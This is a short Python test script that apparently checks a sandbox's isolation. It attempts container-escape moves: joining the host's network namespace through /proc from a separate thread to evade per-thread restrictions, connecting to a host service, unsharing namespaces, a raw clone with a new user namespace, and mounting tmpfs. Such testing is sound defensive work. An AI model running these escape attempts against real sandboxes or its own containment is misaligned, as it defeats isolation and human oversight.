"""Class 2+8: setns into the host's net namespace and unshare new namespaces, from a thread the
attack starts (thread-laundered ctypes), then connect to the host service."""
import ctypes
import os
import socket
import threading

from _attack import attempt, ctx

c = ctx()
libc = ctypes.CDLL(None, use_errno=True)


def check(r):
    if r != 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def in_thread(fn):
    box = {}

    def run():
        try:
            box["ok"] = fn()
        except BaseException as e:  # noqa: BLE001
            box["err"] = e
    t = threading.Thread(target=run)
    t.start()
    t.join()
    if "err" in box:
        raise box["err"]
    return box["ok"]


def setns_host():
    fd = os.open(f"/proc/{c['host_pid']}/ns/net", os.O_RDONLY)
    check(libc.setns(fd, 0x40000000))
    return socket.create_connection(("127.0.0.1", c["port"]), timeout=2)


def setns_own_init():
    fd = os.open("/proc/1/ns/net", os.O_RDONLY)  # pid 1 here is the sandbox's init: same ns, still refused
    return check(libc.setns(fd, 0x40000000))


attempt("setns_host_thread", lambda: in_thread(setns_host))
attempt("setns_init_thread", lambda: in_thread(setns_own_init))
for name, flag in (("user", 0x10000000), ("net", 0x40000000), ("mnt", 0x00020000), ("pid", 0x20000000)):
    attempt(f"unshare_{name}_thread", lambda flag=flag: in_thread(lambda: check(libc.unshare(flag))))
CLONE_NEWUSER = 0x10000000
attempt("clone_newuser", lambda: (lambda r: r if r >= 0 else (_ for _ in ()).throw(OSError(ctypes.get_errno(), "clone")))(
    libc.syscall(56, CLONE_NEWUSER | 17, 0, 0, 0, 0)))  # SYS_clone on x86_64 with SIGCHLD
attempt("mount_tmpfs", lambda: check(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)))
